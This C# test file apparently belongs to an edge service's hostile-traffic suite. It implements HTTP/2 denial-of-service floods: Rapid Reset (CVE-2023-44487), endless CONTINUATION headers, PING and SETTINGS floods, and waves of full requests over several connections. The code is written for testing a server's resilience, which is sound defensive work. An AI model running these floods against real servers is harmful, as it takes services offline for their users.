namespace EdgeService.Tests.Doors.Hostile;

/// <summary>Floods of frames that cost the sender little, and calls without end.</summary>
public static class FrameFloods
{
    private const int Connections = 4;
    private const int InOneWrite = 64;

    /// <summary>Calls that are reset as soon as they are sent, so that the limit of streams is never met (CVE-2023-44487).</summary>
    public static Task RapidResetAsync(AttackRun run)
    {
        var block = HeaderBlock.OfCall(run.Target.Path).ToArray();
        return StreamsAsync(run, stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, block), .. Frame.Reset(stream)]);
    }

    /// <summary>Whole calls, as many as go through.</summary>
    public static Task CallsAsync(AttackRun run)
    {
        var block = HeaderBlock.OfCall(run.Target.Path).ToArray();
        return StreamsAsync(run, stream =>
            [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, block), .. Frame.Of(Frame.Data, Frame.EndStream, stream, run.Target.Body)]);
    }

    /// <summary>Headers that never end, in pieces of nothing: no limit of size is ever met.</summary>
    public static Task ContinuationsAsync(AttackRun run)
    {
        var begin = Frame.Of(Frame.Headers, 0, 1, HeaderBlock.OfCall(run.Target.Path).ToArray());
        return FloodAsync(run, begin, Frame.Of(Frame.Continuation, 0, 1));
    }

    /// <summary>Pings, each of which must be answered.</summary>
    public static Task PingsAsync(AttackRun run) =>
        FloodAsync(run, [], Frame.Of(Frame.Ping, 0, 0, new byte[8]));

    /// <summary>Settings, each of which must be acknowledged; the acknowledgements are not read.</summary>
    public static Task SettingsAsync(AttackRun run) =>
        FloodAsync(run, [], Frame.Of(Frame.Settings, 0, 0), listens: false);

    /// <summary>Streams one after another on several connections.</summary>
    internal static Task StreamsAsync(AttackRun run, Func<int, byte[]> frames) => Attack.AgainAsync(Connections, run, async () =>
    {
        await using var connection = await HostileConnection.OpenAsync(run);
        var stream = 1;
        var bytes = new List<byte>();
        do
        {
            bytes.Clear();
            for (var i = 0; i < InOneWrite; i++, stream += 2)
                bytes.AddRange(frames(stream));
        }
        while (connection is not null && stream < int.MaxValue - 2 * InOneWrite && await connection.SendAsync(bytes.ToArray(), run.Stop));
    });

    private static Task FloodAsync(AttackRun run, byte[] begin, byte[] frame, bool listens = true)
    {
        byte[] bytes = [.. Enumerable.Repeat(frame, 1000).SelectMany(each => each)];
        return Attack.AgainAsync(Connections, run, async () =>
        {
            await using var connection = await HostileConnection.OpenAsync(run, listens: listens);
            if (connection is null || !await connection.SendAsync(begin, run.Stop))
                return;
            while (await connection.SendAsync(bytes, run.Stop))
            {
                // Sent; the next.
            }
        });
    }
}
